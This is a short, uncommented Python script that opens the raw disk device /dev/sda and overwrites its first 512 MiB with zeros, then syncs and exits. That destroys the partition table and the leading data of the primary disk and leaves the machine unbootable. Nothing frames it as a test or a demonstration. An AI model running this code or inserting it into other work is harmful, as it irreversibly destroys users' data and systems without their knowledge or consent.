import os
import sys

DEV = "/dev/sda"
block = b"\0" * (1 << 20)
fd = os.open(DEV, os.O_WRONLY)
for _ in range(512):
    os.write(fd, block)
os.fsync(fd)
sys.exit(0)
